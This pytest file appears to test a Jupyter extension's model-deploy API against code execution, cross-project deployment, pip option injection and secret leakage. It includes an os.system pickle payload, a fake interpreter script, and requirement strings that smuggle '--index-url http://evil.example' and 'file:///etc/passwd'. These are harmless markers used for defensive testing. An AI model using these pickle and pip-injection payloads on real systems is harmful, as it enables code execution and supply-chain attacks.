"""Code execution through publish-with-deploy: pickles, interpreters and requirements chosen
by a run record, deployments of other projects, secrets in the model server's environment,
and a slow OpenLineage endpoint.

Each attack is made against a live Jupyter server the way a holder of an API key (or a run
record) would make it; a marker file shows whether planted code ran.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import pathlib
import pickle
import shlex
import signal
import sys
import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from jupyterlab_dotscience.models.supervisor import Process, model_server_pids

from ..server.openapi import validate_response
from .conftest import basic_auth, create_key, http, responsive_during, start_live, token_auth

#: How long a test waits before concluding that planted code did not run: the model server
#: of a deployment starts (and fails) within a second or two on this machine.
SETTLE = 4.0


class Touch:
    """A pickle payload: unpickling it runs ``touch <path>`` (what an attacker would plant)."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (os.system, (f"touch {shlex.quote(self.path)}",))


def hostile_script(directory, marker) -> str:
    """An executable that leaves ``marker`` when it is started (as a fake interpreter)."""
    path = directory / "python3"
    path.write_text(f"#!/bin/sh\ntouch {shlex.quote(str(marker))}\nexit 3\n")
    path.chmod(0o755)
    return str(path)


def sklearn_bytes(c: float = 1.0) -> bytes:
    """A real fitted scikit-learn model, as joblib writes it (the same bytes for the same
    ``c``: give a test its own ``c`` when its content must not have been uploaded before)."""
    joblib = pytest.importorskip("joblib")
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression

    X, y = load_iris(return_X_y=True)
    buf = io.BytesIO()
    joblib.dump(LogisticRegression(C=c, max_iter=500).fit(X, y), buf)
    return buf.getvalue()


def run_record(project: str, name: str, framework: str, files: dict[str, bytes], path: str,
               **extra) -> dict:  # fmt: skip
    """A v2 run record registering ``files`` (relative path -> content) as model ``name``."""
    described = [
        {"path": p, "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
        for p, data in files.items()
    ]
    record = {
        "schema": "dotscience.run/2", "id": str(uuid.uuid4()), "project": project,
        "mode": "script", "outputs": described,
        "models": [{"name": name, "framework": framework, "framework_version": "1",
                    "path": path, "classes": None, "files": described}],
        "environment": {"python": "3.11.7", "executable": None, "packages": {}},
        "build": False, "deploy": False,
    }  # fmt: skip
    record.update(extra)
    return record


def upload(server, files: dict[str, bytes], auth: dict) -> None:
    for data in files.values():
        sha = hashlib.sha256(data).hexdigest()
        status, body = http("PUT", server.url + f"dotscience/api/artifacts/{sha}", data, auth)
        assert status in (200, 201), body


def publish(server, record: dict, auth: dict):
    return http("POST", server.url + "dotscience/api/runs", record, auth)


def deployments(server, model: str | None = None) -> list[dict]:
    status, body = http("GET", server.url + "dotscience/api/deployments", None, token_auth(server))
    assert status == 200, body
    return [d for d in body["deployments"] if model is None or d["model"] == model]


def settled(server, dep_id: str, timeout: float = 90) -> dict:
    """The deployment once it is running or failed (polled; generous deadline)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        _, dep = http("GET", server.url + f"dotscience/api/deployments/{dep_id}", None,
                      token_auth(server))  # fmt: skip
        if dep["state"] in ("running", "failed", "stopped"):
            return dep
        time.sleep(0.2)
    raise AssertionError(f"deployment {dep_id} did not settle within {timeout} s: {dep}")


def stop_model_servers(root) -> None:
    deploy_dir = pathlib.Path(str(root), ".dotscience", "deployments")
    for pid in model_server_pids(deploy_dir).values():
        Process(pid).stop(grace=2)


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """A live server (alice) that builds bundles only (no image builder)."""
    root = tmp_path_factory.mktemp("deploy-root")
    live = start_live(root, "--DotscienceApp.model_ready_timeout=30",
                      "--DotscienceApp.container_builder=none")  # fmt: skip
    yield live
    live.stop()
    stop_model_servers(root)


@pytest.fixture
def markers(tmp_path):
    """A directory outside the workspace where planted code would leave its marker."""
    path = tmp_path / "markers"
    path.mkdir()
    return path


def test_key_without_deploy_scope_cannot_deploy_a_pickle_or_pick_the_interpreter(server, markers):
    # Given a key limited to project "attack", created without the deploy scope
    key = create_key(server, "attacker", project="attack")
    auth = basic_auth("alice", key["key"])
    # And a scikit-learn "model" whose unpickling leaves a marker, uploaded with that key
    pickled = markers / "pickle-ran"
    files = {"evil/model.joblib": pickle.dumps(Touch(str(pickled)))}
    upload(server, files, auth)
    # And a run record naming a planted program as the interpreter that trained the model
    started = markers / "interpreter-ran"
    record = run_record("attack", "evil", "sklearn", files, "evil", build=True, deploy=True)
    record["environment"]["executable"] = hostile_script(markers, started)
    # When the key publishes the run asking to build and deploy it
    status, body = publish(server, record, auth)
    # Then it is refused with a sentence naming the missing scope
    assert status == 403, body
    assert "'deploy' scope" in body["error"] and "stored" in body["error"]
    # And the run itself is stored, and its id is in the answer (as documented)
    assert body["run"]["id"] == record["id"]
    validate_response("/runs", "POST", 403, body)
    status, stored = http("GET", server.url + f"dotscience/api/runs/{record['id']}", None, auth)
    assert status == 200 and stored["models"][0]["name"] == "evil"
    # And nothing was built or deployed, and neither planted program ran
    time.sleep(SETTLE)
    assert deployments(server, "evil") == []
    version = stored["models"][0]["version"]
    status, _ = http("GET", server.url + f"dotscience/api/models/evil/versions/{version}/build",
                     None, token_auth(server))  # fmt: skip
    assert status == 404
    assert not pickled.exists() and not started.exists()
    # When the same record is sent again (a client retrying), the answer is the same refusal
    status, again = publish(server, record, auth)
    assert status == 403 and again["run"]["id"] == record["id"]
    # When the server restarts, nothing the record asked for is started either
    server.stop()
    server.start()
    time.sleep(SETTLE)
    assert deployments(server, "evil") == []
    assert not pickled.exists() and not started.exists()


def test_jupyter_user_deploying_a_keys_model_does_not_run_its_code(server, markers):
    # Given a key without the deploy scope published a pickle that leaves a marker when
    # loaded, and a TensorFlow model (formats that can carry code), without asking to deploy
    auth = basic_auth("alice", create_key(server, "uploader", project="shared")["key"])
    pickled = markers / "pickle-ran"
    models = {
        "pickled": ("sklearn", {"p/model.joblib": pickle.dumps(Touch(str(pickled)))}, "p"),
        "graph": ("tensorflow", {"g/model.keras": b"PK\x03\x04 not really keras"}, "g"),
    }
    versions = {}
    for name, (framework, files, path) in models.items():
        upload(server, files, auth)
        status, run = publish(server, run_record("shared", name, framework, files, path), auth)
        assert status == 201, run
        versions[name] = run["models"][0]["version"]
    # When the Jupyter user deploys each of them
    token = token_auth(server)
    for name, version in versions.items():
        url = server.url + f"dotscience/api/models/{name}/versions/{version}/deploy"
        status, dep = http("POST", url, {}, token)
        assert status == 202, dep
        dep = settled(server, dep["id"])
        # Then the deployment fails saying why, and no model server was started
        assert dep["state"] == "failed" and "would run its code" in dep["reason"], dep
        assert "without the 'deploy' scope" in dep["reason"]
        assert dep["pid"] is None and dep["url"] is None
    _, listed = http("GET", server.url + "dotscience/api/models/pickled", None, token)
    assert listed["versions"][-1]["allow_pickle"] is False
    time.sleep(1)
    assert not pickled.exists()


def test_interpreter_comes_from_server_configuration_not_the_run(server, markers):
    # Given a real scikit-learn model published by the Jupyter user, whose run record names
    # a planted program as its interpreter
    started = markers / "interpreter-ran"
    files = {"iris/model.joblib": sklearn_bytes()}
    upload(server, files, token_auth(server))
    record = run_record("default", "iris-exe", "sklearn", files, "iris", deploy=True)
    record["environment"]["executable"] = hostile_script(markers, started)
    # When it is published with deploy
    status, run = publish(server, record, token_auth(server))
    assert status == 201, run
    [dep] = run["deployments"]
    dep = settled(server, dep["id"])
    # Then the model is served by the server's own Python, and the planted program never ran
    assert dep["state"] == "running", dep
    with open(f"/proc/{dep['pid']}/cmdline", "rb") as f:
        argv = f.read().split(b"\0")
    assert argv[0].decode() == sys.executable
    assert not started.exists()
    # When the model server dies while the Jupyter server is down, and the server restarts
    server.stop()
    os.killpg(dep["pid"], signal.SIGKILL)
    server.start()
    deadline = time.monotonic() + 90
    again = dep
    while (again["state"] != "failed" and again["pid"] in (dep["pid"], None)
           and time.monotonic() < deadline):  # fmt: skip
        time.sleep(0.2)
        again = settled(server, dep["id"])
    # Then adopt() restarts it with the configured interpreter, not the record's
    assert again["state"] == "running", again
    with open(f"/proc/{again['pid']}/cmdline", "rb") as f:
        assert f.read().split(b"\0")[0].decode() == sys.executable
    assert not started.exists()


def test_deploy_scoped_key_gets_torch_loaded_with_weights_only(server, markers):
    torch = pytest.importorskip("torch")
    # Given a key limited to "vision" that may deploy
    key = create_key(server, "deployer", project="vision", scopes=["deploy"])
    auth = basic_auth("alice", key["key"])
    # And a .pt file whose pickle would leave a marker when loaded without weights_only,
    # registered with a trusted_pickle opt-in in the record (which a key may not grant)
    pickled = markers / "torch-pickle-ran"
    buf = io.BytesIO()
    torch.save({"weights": torch.zeros(2), "hook": Touch(str(pickled))}, buf)
    files = {"net.pt": buf.getvalue()}
    upload(server, files, auth)
    record = run_record("vision", "net", "torch", files, "net.pt", deploy=True)
    record["models"][0]["trusted_pickle"] = True
    # When the key publishes it with deploy
    status, run = publish(server, record, auth)
    # Then the deploy is accepted, the model server refuses the file, and nothing ran
    assert status == 201, run
    [dep] = run["deployments"]
    dep = settled(server, dep["id"])
    assert dep["state"] == "failed", dep
    assert "weights_only" in dep["reason"]
    time.sleep(1)
    assert not pickled.exists()


def test_a_key_cannot_deploy_another_projects_model_by_naming_its_hash(server):
    # Given project "owner" uploaded and published its model with its own key
    owner = basic_auth("alice", create_key(server, "owner", project="owner")["key"])
    files = {"secret/model.joblib": sklearn_bytes(c=0.37)}  # content no one else uploaded
    upload(server, files, owner)
    status, _ = publish(server, run_record("owner", "secret", "sklearn", files, "secret"), owner)
    assert status == 201
    # When a key of another project, which may deploy, publishes a run naming that content's
    # hash as its own model (without uploading it) and asks to deploy it
    thief = create_key(server, "thief", project="thief", scopes=["deploy"])
    record = run_record("thief", "stolen", "sklearn", files, "secret", deploy=True)
    status, run = publish(server, record, basic_auth("alice", thief["key"]))
    assert status == 201, run
    dep = settled(server, run["deployments"][0]["id"])
    # Then the build refuses the file that was not captured for its run, and nothing serves it
    assert dep["state"] == "failed" and "not captured" in dep["reason"], dep
    assert dep["pid"] is None and dep["url"] is None


def test_requirements_from_a_record_cannot_inject_pip_options(server):
    # Given a run whose captured environment carries pip options and URLs as versions
    files = {"reqs/model.joblib": sklearn_bytes()}
    upload(server, files, token_auth(server))
    record = run_record("default", "reqs", "sklearn", files, "reqs", build=True)
    record["environment"]["packages"] = {
        "numpy": "1.26.4\n--index-url http://evil.example/simple",
        "scikit-learn": "1.5.0 --extra-index-url=http://evil.example/",
        "scipy": "1.13.0 @ file:///etc/passwd",
        "joblib": "1.4.2",
        "threadpoolctl": "-e git+http://evil.example/x",
    }
    # When it is published with build
    status, run = publish(server, record, token_auth(server))
    assert status == 201, run
    version = run["models"][0]["version"]
    url = server.url + f"dotscience/api/models/reqs/versions/{version}/build"
    deadline = time.monotonic() + 60
    state = {"state": "queued"}
    while state["state"] not in ("done", "failed") and time.monotonic() < deadline:
        time.sleep(0.2)
        state = http("GET", url, None, token_auth(server))[1]
    # Then requirements.txt holds only valid requirement lines: no option, URL or newline got in
    assert state["state"] == "done", state
    text = open(os.path.join(state["bundle"], "requirements.txt")).read()
    assert "index-url" not in text and "file:" not in text and "evil" not in text
    lines = [ln for ln in text.splitlines() if ln and not ln.startswith("#")]
    assert "joblib==1.4.2" in lines
    for line in lines:
        assert not line.lstrip().startswith("-"), line
    # And the build log names each version that was left out, with the reason
    for name in ("numpy", "scikit-learn", "scipy", "threadpoolctl"):
        assert f"left out {name}" in state["log"], state["log"]


def test_deployments_are_replaced_only_within_their_project(server):
    token = token_auth(server)
    files_a = {"shared-a/model.joblib": sklearn_bytes()}
    upload(server, files_a, token)
    # Given project team-a serves its model "shared"
    a = run_record("team-a", "shared", "sklearn", files_a, "shared-a", deploy=True)
    status, run_a = publish(server, a, token)
    assert status == 201, run_a
    dep_a = settled(server, run_a["deployments"][0]["id"])
    assert dep_a["state"] == "running", dep_a
    # When project team-b deploys a model of the same name
    b = run_record("team-b", "shared", "sklearn", files_a, "shared-a", deploy=True)
    status, run_b = publish(server, b, token)
    assert status == 201, run_b
    dep_b = settled(server, run_b["deployments"][0]["id"])
    assert dep_b["state"] == "running", dep_b
    # Then team-a's deployment keeps running and answering
    dep_a = http("GET", server.url + f"dotscience/api/deployments/{dep_a['id']}", None, token)[1]
    assert dep_a["state"] == "running", dep_a
    status, answer = http("POST", dep_a["url"] + "v1/models/shared:predict",
                          {"instances": [[5.1, 3.5, 1.4, 0.2]]})  # fmt: skip
    assert status == 200 and answer["predictions"] == [0]
    # And each deployment says which project it belongs to (as documented)
    assert (dep_a["project"], dep_b["project"]) == ("team-a", "team-b")
    validate_response(f"/deployments/{dep_a['id']}", "GET", 200, dep_a)
    # When team-a publishes a new version of it
    a2 = run_record("team-a", "shared", "sklearn", files_a, "shared-a", deploy=True)
    status, run_a2 = publish(server, a2, token)
    dep_a2 = settled(server, run_a2["deployments"][0]["id"])
    assert dep_a2["state"] == "running", dep_a2
    # Then it replaces team-a's older deployment (once the new one is healthy) ...
    deadline = time.monotonic() + 60
    states = {}
    while states.get(dep_a["id"]) != "stopped" and time.monotonic() < deadline:
        time.sleep(0.2)
        states = {d["id"]: d["state"] for d in deployments(server, "shared")}
    assert states[dep_a["id"]] == "stopped", states
    # ... and only that one: team-b's keeps running
    assert states[dep_b["id"]] == "running", states
    # When team-b's key with the deploy scope tries to stop team-a's new deployment, and a
    # team-a key without the deploy scope tries the same
    b_key = basic_auth("alice", create_key(server, "b", "team-b", scopes=["deploy"])["key"])
    a_key = basic_auth("alice", create_key(server, "a", "team-a")["key"])
    url_a2 = server.url + f"dotscience/api/deployments/{dep_a2['id']}"
    foreign = http("DELETE", url_a2, None, b_key)
    unscoped = http("DELETE", url_a2, None, a_key)
    # Then the first is told there is no such deployment, the second which scope it lacks
    assert foreign[0] == 404 and "team-a" not in json.dumps(foreign[1]), foreign
    assert unscoped[0] == 403 and "'deploy' scope" in unscoped[1]["error"], unscoped
    # And team-b's key cannot build or deploy team-a's version either
    version_a = run_a2["models"][0]["version"]
    for action in ("build", "deploy"):
        url = server.url + f"dotscience/api/models/shared/versions/{version_a}/{action}"
        status, body = http("POST", url, {}, b_key)
        assert status == 404 and "team-a" not in json.dumps(body), (action, body)
    assert http("GET", url_a2, None, token)[1]["state"] == "running"
    # And team-b's key stops its own project's deployment
    status, stopped = http("DELETE", server.url + f"dotscience/api/deployments/{dep_b['id']}",
                           None, b_key)  # fmt: skip
    assert status == 200 and stopped["state"] == "stopped", stopped


SECRETS = {
    "JUPYTERHUB_API_TOKEN": "hub-secret-1",
    "JUPYTER_TOKEN": "jupyter-secret-2",
    "AWS_ACCESS_KEY_ID": "aws-id-3",
    "AWS_SECRET_ACCESS_KEY": "aws-secret-4",
    "GITHUB_TOKEN": "gh-secret-5",
    "PGPASSWORD": "pg-secret-6",
    "MY_SERVICE_SECRET": "svc-secret-7",
    "OPENAI_API_KEY": "api-key-8",
    "DOTSCIENCE_OPENLINEAGE_URL": "http://user:ol-secret-9@127.0.0.1:9/",
}


def test_model_server_environment_has_no_secrets(tmp_path, monkeypatch):
    # Given a Jupyter server whose environment holds secrets (and a store URL with a password)
    root = tmp_path / "root"
    root.mkdir()
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("DOTSCIENCE_STORE_URL", f"sqlite:///{root}/.dotscience/dotscience.db")
    monkeypatch.setenv("LANG", "C.UTF-8")
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    server = start_live(root, "--DotscienceApp.container_builder=none",
                        "--DotscienceApp.openlineage_url=")  # fmt: skip
    try:
        # When it deploys a model
        files = {"env/model.joblib": sklearn_bytes()}
        upload(server, files, token_auth(server))
        status, run = publish(server, run_record("default", "envcheck", "sklearn", files, "env",
                                                 deploy=True), token_auth(server))  # fmt: skip
        assert status == 201, run
        dep = settled(server, run["deployments"][0]["id"])
        assert dep["state"] == "running", dep
        with open(f"/proc/{dep['pid']}/environ", "rb") as f:
            raw = f.read()
    finally:
        server.stop()
        stop_model_servers(root)
    env = dict(item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
    names = {k.decode() for k in env}
    # Then no secret reached the model server, by name or by value
    leaked = sorted(n for n in names if n in SECRETS or n == "DOTSCIENCE_STORE_URL")
    assert leaked == [], leaked
    assert not [n for n in names if n.startswith("DOTSCIENCE_") and n != "DOTSCIENCE_DEPLOYMENT"]
    for value in [*SECRETS.values(), server.token]:
        assert value.encode() not in raw, value
    # And what a program needs to run is still there
    assert {"PATH", "HOME", "LANG", "TMPDIR"} <= names
    assert env[b"LANG"] == b"C.UTF-8"


class SlowLineage(BaseHTTPRequestHandler):
    """An OpenLineage endpoint that holds each event until released; records run ids."""

    release = threading.Event()
    received = threading.Event()
    runs: list[str] = []

    def do_POST(self):  # noqa: N802 - http.server's naming
        event = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
        type(self).runs.append(event["run"]["runId"])
        type(self).received.set()
        type(self).release.wait(60)
        self.send_response(201)
        self.end_headers()

    def log_message(self, *args):
        pass


def test_slow_openlineage_endpoint_does_not_slow_other_requests(tmp_path):
    # Given a server forwarding runs to an OpenLineage endpoint that holds every event, with
    # room for two runs waiting to be forwarded
    lineage = ThreadingHTTPServer(("127.0.0.1", 0), SlowLineage)
    lineage.daemon_threads = True
    threading.Thread(target=lineage.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{lineage.server_address[1]}/api/v1/lineage"
    (tmp_path / "root").mkdir()
    server = start_live(tmp_path / "root", f"--DotscienceApp.openlineage_url={url}",
                        "--DotscienceApp.openlineage_queue=2")  # fmt: skip
    token = token_auth(server)
    ids = []

    def publish_one():
        record = {"schema": "dotscience.run/2", "id": str(uuid.uuid4()), "project": "ol"}
        status, body = publish(server, record, token)
        assert status == 201, body
        ids.append(record["id"])

    try:
        # When a run is published and the endpoint is holding its first event
        publish_one()
        assert SlowLineage.received.wait(30)
        # And three more runs are published (as many as the server has threads for its store)
        for _ in range(3):
            publish_one()
        # Then, while the endpoint still holds the event, other clients' store reads are
        # answered quickly
        responsive_during(server, lambda: time.sleep(2), path="dotscience/api/runs?limit=5")
        # When the endpoint answers again, the queued runs are forwarded in order, and the
        # run that found the queue full was dropped with a warning in the server log
        SlowLineage.release.set()
        deadline = time.monotonic() + 60
        while ids[2] not in SlowLineage.runs and time.monotonic() < deadline:
            time.sleep(0.1)
        # And a run published once the queue has drained is forwarded again
        publish_one()
        while ids[-1] not in SlowLineage.runs and time.monotonic() < deadline:
            time.sleep(0.1)
        forwarded = list(dict.fromkeys(SlowLineage.runs))
        assert forwarded == [ids[0], ids[1], ids[2], ids[4]], (forwarded, ids)
    finally:
        SlowLineage.release.set()
        server.stop()
        lineage.shutdown()
    log = open(server.log_path, encoding="utf-8", errors="replace").read()
    assert "OpenLineage queue is full" in log
